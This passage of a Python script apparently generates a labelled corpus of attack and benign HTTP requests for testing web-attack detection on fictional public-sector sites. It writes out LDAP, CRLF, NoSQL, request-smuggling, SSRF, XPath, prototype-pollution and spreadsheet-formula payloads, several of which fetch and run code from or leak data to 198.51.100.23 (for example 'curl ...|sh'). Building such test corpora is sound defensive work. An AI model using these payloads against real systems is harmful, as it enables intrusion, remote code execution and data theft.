LDAP = [
    "*)(uid=*))(|(uid=*", "admin*)((|userPassword=*)", "*)(|(objectClass=*)", "O'Neill)(|(password=*))", "*)(cn=*))\x00",
    "*))(|(cn=*", "x*)(|(mail=*)(telephoneNumber=*", "admin)(&)", "a*)(userPassword=a*", "*)(description=*pass*",
    "*)(memberOf=CN=Domain Admins,CN=Users,DC=city,DC=example,DC=org", "k.oneill)(|(objectClass=person)(userPassword=*)",
    "*)(!(objectClass=void)", "*()|%26'", "jsmith*)(|(sAMAccountName=*)(unicodePwd=*",
]


def ldap_all(o, rng):
    for i, p in enumerate(LDAP):
        c = i % 3
        if c == 0 or c == 1:
            pp = p.replace("\x00", "%00")
            u = "/directory/search?q=%s&dept=" % (quote(p.replace("\x00", ""), safe="") + ("%00" if "\x00" in p else "") if c == 0 else quote_plus(pp, safe="%"))
            o.add("ldapi", "ldapi", "GET", u, atk_headers(rng, DIRECTORY, tool=rng.random() < 0.3, app="dms"))
        else:
            m, u, h, b = carrier(rng, "login_form", p.replace("\x00", ""))
            o.add("ldapi", "ldapi", m, u, h, b)
    o.add("ldapi", "ldapi", "POST", "/directory/api/lookup", browser(rng, DIRECTORY, ctype="application/json", xhr=True, app="dms"),
          js({"attribute": "cn", "value": "*)(|(userPassword=*)(cn=*"}))


CRLF = [
    "/login?returnTo=%0d%0aSet-Cookie:%20PORTALSESSION=attacker-fixed-session",
    "/login?returnTo=/my-account%0d%0aLocation:%20https://phish.example.net/login",
    "/login?returnTo=%0D%0A%0D%0A%3Cscript%3Ealert(document.domain)%3C/script%3E",
    "/login?returnTo=%E5%98%8A%E5%98%8DSet-Cookie:%20crlf=injected",
    "/login?returnTo=/x%0aSet-Cookie:%20admin=true",
    "/logout?next=%23%0d%0aSet-Cookie:%20PORTALSESSION=fixation",
    "/%0d%0aSet-Cookie:crlf=injection",
    "/documents/download?id=FOI-2024-00123&filename=x.pdf%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Chtml%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "/login?returnTo=/%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0apwned",
    "/search?q=test%0d%0aX-Injected:%20header&court=all",
    "/lang?set=ga%0d%0aSet-Cookie:%20role%3Dadmin",
    "/saml/login?RelayState=%2Fmy-account%0D%0ASet-Cookie%3A+samlsess%3Dx",
    "/login?returnTo=%250d%250aSet-Cookie:%2520session%3Dfixed",
]


def crlf_all(o, rng):
    for u in CRLF:
        host = CASELAW if u.startswith("/search") else (DMS if u.startswith("/documents") else PORTAL)
        o.add("crlf", "crlf", "GET", u, atk_headers(rng, host, tool=rng.random() < 0.5))
    o.add("crlf", "crlf", "POST", "/api/webhooks", api(rng, SIGN, ctype="application/json"),
          js({"url": "https://hooks.example.com/esign", "headers": {"X-Tenant": "city\r\nHost: 169.254.169.254\r\n\r\nGET /latest/meta-data/ HTTP/1.1"}}))
    o.add("crlf", "crlf", "POST", "/contact", browser(rng, PORTAL, ctype="application/x-www-form-urlencoded"),
          form([("name", "Aoife O'Neill\r\nBcc: list1@example.net, list2@example.net"), ("email", "aoife@example.com\r\nCc: victim@example.org"),
                ("message", "Please call me back about my application.")]))


def nosqli_all(o, rng):
    items = [
        ("POST", "/api/auth/login", "application/json", js({"username": "k.oneill", "password": {"$ne": None}})),
        ("POST", "/api/auth/login", "application/json", js({"username": {"$gt": ""}, "password": {"$gt": ""}})),
        ("POST", "/staff/login", "application/x-www-form-urlencoded", "username=admin&password%5B%24ne%5D=x&domain=CITY"),
        ("POST", "/staff/login", "application/x-www-form-urlencoded", "username%5B%24regex%5D=%5Eadm&password%5B%24ne%5D=1"),
        ("POST", "/api/requests/search", "application/json", js({"filter": {"$where": "sleep(5000) || true"}})),
        ("POST", "/api/requests/search", "application/json", js({"filter": {"requester": {"$where": "this.ppsn && this.ppsn.match(/^1/)"}}})),
        ("GET", "/api/v2/applications?applicationId%5B%24ne%5D=0&owner%5B%24exists%5D=true", None, None),
        ("GET", "/api/requests?status=" + quote("';return(true);var a='", safe=""), None, None),
        ("POST", "/api/requests/search", "application/json", js({"filter": {"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}})),
        ("POST", "/api/auth/reset", "application/json", js({"email": {"$regex": ".*@city\\.example\\.org$"}, "token": {"$nin": []}})),
    ]
    for m, u, ct, b in items:
        host = FOI if "requests" in u else (DIRECTORY if u.startswith("/staff") else PORTAL)
        o.add("nosqli", "nosqli", m, u, atk_headers(rng, host, ctype=ct, tool=rng.random() < 0.4, xhr=ct == "application/json"), b)


SCAN_PATHS = [
    "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/phpmyadmin/index.php", "/actuator/env", "/actuator/heapdump", "/server-status",
    "/console/login/LoginForm.jsp", "/manager/html", "/alfresco/s/api/server", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
    "/api/v1/namespaces/default/secrets", "/.aws/credentials", "/backup.sql", "/solr/admin/cores?action=STATUS&wt=json",
    "/debug/pprof/", "/.DS_Store", "/web.config.bak", "/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", "/owa/auth/x.js",
    "/cgi-bin/test-cgi", "/admin/config.php", "/.svn/entries", "/xmlrpc.php", "/HNAP1/",
    "/jmx-console/HtmlAdaptor?action=inspectMBean&name=jboss.system:type=ServerInfo", "/share/page/console/admin-console/application",
]


def scanner_all(o, rng):
    for i, p in enumerate(SCAN_PATHS):
        host = rng.choice([PORTAL, DMS, FOI, TENDER, OPENDATA, EFILE])
        h = [["Host", host], ["User-Agent", UA_TOOLS[i % len(UA_TOOLS)]], ["Accept", "*/*"]]
        if "ToolPane" in p:
            h = [["Host", DMS], ["User-Agent", UA_BROWSERS[0]], ["Referer", "/_layouts/SignOut.aspx"], ["Content-Type", "application/x-www-form-urlencoded"]]
            o.add("scanner", "scanner", "POST", p, h, "MSOTlPn_Uri=http%3A%2F%2F" + DMS + "%2F_controltemplates%2F15%2FAclEditor.ascx&MSOTlPn_DWP=%3C%25%40+Register+Tagprefix%3D%22Scorecard%22+Namespace%3D%22Microsoft.PerformancePoint.Scorecards%22")
            continue
        if i % 4 == 3:
            h.append(["X-Scanner", rng.choice(["Netsparker", "Acunetix-Product: WVS/14.0"])])
        o.add("scanner", "scanner", "GET", p, h)


def protocol_all(o, rng):
    o.add("protocol", "protocol", "POST", "/api/requests/search",
          [["Host", FOI], ["User-Agent", UA_API[0]], ["Content-Type", "application/x-www-form-urlencoded"], ["Transfer-Encoding", "chunked"]],
          "0\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: localhost\r\nX-Ignore: X")
    o.add("protocol", "protocol", "POST", "/search",
          [["Host", CASELAW], ["User-Agent", UA_API[3]], ["Content-Type", "application/x-www-form-urlencoded"], ["Transfer-Encoding", "xchunked"]],
          "5c\r\nGPOST /internal/reindex HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n")
    o.add("protocol", "protocol", "POST", "/api/v2/notifications",
          [["Host", PORTAL], ["User-Agent", UA_API[4]], ["Content-Type", "application/json"], ["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"]],
          "0\r\n\r\nPOST /api/v2/admin/impersonate HTTP/1.1\r\nHost: portal.citizen.example.org\r\n\r\n")
    o.add("protocol", "protocol", "GET", "/", [["Host", PORTAL], ["User-Agent", UA_API[4]], ["Transfer-Encoding", " chunked"], ["Content-Type", "text/plain"]], "0\r\n\r\n")
    o.add("protocol", "protocol", "GET", "/documents/%s/download" % ref(rng, "FOI"),
          [["Host", DMS], ["User-Agent", "Mozilla/5.0"], ["Range", "bytes=0-," + ",".join("5-%d" % k for k in range(1, 120))], ["Accept-Encoding", "gzip"]])
    o.add("protocol", "protocol", "GET", "/my-account", [["Host", PORTAL], ["Host", "169.254.169.254"], ["User-Agent", UA_API[4]], ["Accept", "*/*"]])
    o.add("protocol", "protocol", "GET", "http://169.254.169.254/latest/meta-data/", [["Host", "169.254.169.254"], ["User-Agent", UA_API[4]], ["Accept", "*/*"]])
    o.add("protocol", "protocol", "POST", "/api/auth/password-reset", [["Host", PORTAL], ["X-Forwarded-Host", "phish.example.net"], ["X-Host", "phish.example.net"],
                                                                       ["User-Agent", UA_API[0]], ["Content-Type", "application/json"]], js({"email": "k.oneill@city.example.org"}))


def generic_all(o, rng):
    o.add("generic", "generic", "PATCH", "/api/v2/permits/%s" % ref(rng, "PRM"), browser(rng, PORTAL, ctype="application/json", xhr=True),
          '{"description":"Rear extension","__proto__":{"isAdmin":true,"role":"caseworker"}}')
    o.add("generic", "generic", "GET", "/api/v2/applications?constructor%5Bprototype%5D%5Brole%5D=admin&page=1", browser(rng, PORTAL, xhr=True))
    o.add("generic", "generic", "POST", "/letters/render", browser(rng, LETTERS, ctype="application/json", xhr=True, app="dms"),
          js({"template": "approval-letter", "__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('curl http://198.51.100.23/p|sh');x"}}))
    o.add("generic", "generic", "GET", "/api/cases/xml-search?name=" + quote("'] | //user/password | //*['", safe=""), atk_headers(rng, EFILE, tool=True, app="court"))
    o.add("generic", "generic", "GET", "/api/cases/xml-search?name=" + quote("x' or count(/*)=1 or name(/*[1])='config' or 'a'='b", safe=""), atk_headers(rng, EFILE, tool=True, app="court"))
    m, u, h, b = carrier(rng, "foi_comment_form", "<esi:include src=\"http://198.51.100.23/esi\"/>")
    o.add("generic", "generic", m, u, h, b)
    m, u, h, b = carrier(rng, "benefit_form", "=cmd|' /C powershell IEX(wget 198.51.100.23/p)'!A0")
    o.add("generic", "generic", m, u, h, b)
    m, u, h, b = carrier(rng, "foi_request", "=HYPERLINK(\"http://198.51.100.23/?leak=\"&A1&B1,\"Click for details\")")
    o.add("generic", "generic", m, u, h, b)
    m, u, h, b = carrier(rng, "tender_question", "@SUM(1+9)*cmd|' /C calc'!A0")
    o.add("generic", "generic", m, u, h, b)
    m, u, h, b = carrier(rng, "foi_comment_json", "<!--#include virtual=\"/etc/passwd\" -->")
    o.add("generic", "generic", m, u, h, b)


def attacks(o, rng):
    run_class(o, rng, "sqli", "sqli", SQLI, SQLI_CARRIERS)
    run_class(o, rng, "sqli", "sqli", SQLI_EXTRA, SQLI_CARRIERS)
    run_class(o, rng, "xss", "xss", XSS, XSS_CARRIERS)
    xss_special(o, rng)
    lfi_all(o, rng)
    rfi_all(o, rng)
    rce_all(o, rng)
    php_all(o, rng)
    java_all(o, rng)
    ssrf_all(o, rng)
    xxe_all(o, rng)
    ssti_all(o, rng)
    ldap_all(o, rng)
    crlf_all(o, rng)
    nosqli_all(o, rng)
    scanner_all(o, rng)
    protocol_all(o, rng)
    generic_all(o, rng)


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-publicsector.py attacks|benign\n")
        return 2
    mode = argv[1]
    rng = random.Random(SEED + (1 if mode == "attacks" else 2))
    o = Out(mode)
    if mode == "attacks":
        attacks(o, rng)
    else:
        for g in BENIGN:
            g(o, rng)
    for rec in o.items:
        sys.stdout.write(json.dumps(rec, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
